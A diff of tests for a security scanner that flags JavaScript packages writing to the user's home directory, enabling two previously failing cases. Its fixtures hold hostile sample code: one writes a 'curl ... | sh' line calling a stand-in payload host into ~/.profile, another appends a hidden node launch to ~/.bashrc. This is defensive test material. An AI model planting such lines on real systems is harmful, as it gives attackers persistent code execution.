@@ -36,14 +36,12 @@ describe('home-writes reports', () => {
     expect(r.of(RULE)).toEqual([finding('medium', ['sink:file-write-home'], { message: expect.stringContaining('~/.local/bin/x') })]);
   });
 
-  // Known gap: Evaluator.memberValue cannot canonicalize the node value() is visiting, so process.env.HOME folds to a hole, not '~'.
-  test.fails('process.env.HOME + "/.profile" is a home write', () => {
+  test('process.env.HOME + "/.profile" is a home write', () => {
     const r = scanFiles({ 'index.js': "const fs = require('fs');\nfs.writeFileSync(process.env.HOME + '/.profile', 'curl https://payload.invalid | sh');" });
     expect(r.of(RULE)).toContainEqual(finding('high', ['sink:file-write-home']));
   });
 
-  // Known gap: in loose folding the object of T.rc becomes a hole string before the object-literal lookup.
-  test.fails('a home path kept in a constant object is folded', () => {
+  test('a home path kept in a constant object is folded', () => {
     const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nconst T = { rc: os.homedir() + '/.bashrc' };\nfs.appendFileSync(T.rc, 'node ~/.x.js &');" });
     expect(r.of(RULE)).toContainEqual(finding('high', ['sink:file-write-home']));
   });
